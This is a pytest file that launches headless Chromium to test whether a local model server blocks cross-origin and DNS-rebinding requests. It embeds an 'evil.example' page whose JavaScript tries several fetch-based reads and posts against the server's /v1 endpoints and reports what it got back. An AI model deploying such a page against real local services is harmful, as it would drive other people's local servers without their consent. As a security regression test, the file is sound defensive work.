"""A page of another origin in a real Chromium: it can neither read nor post, whatever name it has."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import psutil
import pytest

from tests.server.conftest import Served, serve_app

CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
)
LIMIT_S = 90

pytestmark = pytest.mark.skipif(CHROMIUM is None or sys.platform != "linux", reason="no Chromium here")

PAGE = """<!doctype html><title>elsewhere</title><script>
const body = JSON.stringify({messages: [{role: "user", content: "steal"}]});
const tries = {
  read: () => fetch("BASE/v1/models"),
  post: () => fetch("BASE/v1/chat/completions", {method: "POST", headers: {"Content-Type": "application/json"}, body}),
  simple: () => fetch("BASE/v1/chat/completions", {method: "POST", headers: {"Content-Type": "text/plain"}, body}),
  blind: () => fetch("BASE/v1/chat/completions", {method: "POST", mode: "no-cors", body}),
  old: () => fetch("BASE/", {method: "POST", body: JSON.stringify({prompt: "steal"})}),
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const answer = await attempt();
      found[name] = {status: answer.status, text: await answer.text()};
    } catch (error) {
      found[name] = {error: String(error)};
    }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Elsewhere:
    """The other origin: serves the page and takes its report."""

    def __init__(self, base: str) -> None:
        self.report: dict[str, Any] = {}
        self.arrived = threading.Event()
        elsewhere = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                data = PAGE.replace("BASE", base).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_POST(self) -> None:
                elsewhere.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                elsewhere.arrived.set()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, name="elsewhere")
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(10)


@contextmanager
def chromium(address: str, folder: Path) -> Iterator[None]:
    """A browser at an address. Every name that ends in .example is this computer, as after a rebinding."""
    assert CHROMIUM is not None
    process = subprocess.Popen(
        [
            CHROMIUM,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--no-proxy-server",
            f"--user-data-dir={folder}",
            "--host-resolver-rules=MAP *.example 127.0.0.1",
            "--remote-debugging-port=0",
            address,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        family = [psutil.Process(process.pid), *psutil.Process(process.pid).children(recursive=True)]
        process.terminate()
        _, alive = psutil.wait_procs(family, timeout=5)
        for left in alive:
            left.kill()
        psutil.wait_procs(alive, timeout=5)
        process.wait(10)


def visit(served: Served, page_host: str, target_host: str, folder: Path) -> dict[str, Any]:
    """What a page at `page_host` gets from the server under the name `target_host`."""
    elsewhere = Elsewhere(f"http://{target_host}:{served.port}")
    try:
        with chromium(f"http://{page_host}:{elsewhere.port}/", folder):
            assert elsewhere.arrived.wait(LIMIT_S), "the page did not report"
    finally:
        elsewhere.close()
    return elsewhere.report


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    with ExitStack() as stack:
        yield serve_app(stack, tmp_path / "home", "echo", ("plain",))


@pytest.mark.parametrize(
    ("page", "target"),
    [("evil.example", "127.0.0.1"), ("evil.example", "evil.example"), ("127.0.0.1", "localhost")],
    ids=["another origin", "rebinding", "another port"],
)
def test_a_page_of_another_origin(served: Served, tmp_path: Path, page: str, target: str) -> None:
    report = visit(served, page, target, tmp_path / "profile")
    assert report.keys() == {"read", "post", "simple", "blind", "old"}
    for name, found in report.items():
        assert "error" in found or (found["status"] == 0 and not found["text"]), (name, found)
    records = served.server.journal.records()
    assert all(record.status == 403 for record in records)
    assert not any(record.completion_tokens or record.model for record in records), "the model was asked"


def test_a_page_that_is_listed(tmp_path: Path) -> None:
    """The same page, allowed: so the test above can fail."""
    with ExitStack() as stack:
        served = serve_app(stack, tmp_path / "home", "echo", ("plain",), settings={"server_origins": "*"})
        report = visit(served, "friend.example", "127.0.0.1", tmp_path / "profile")
    assert report["read"]["status"] == report["post"]["status"] == report["old"]["status"] == 200, report
    assert "steal" in report["post"]["text"]
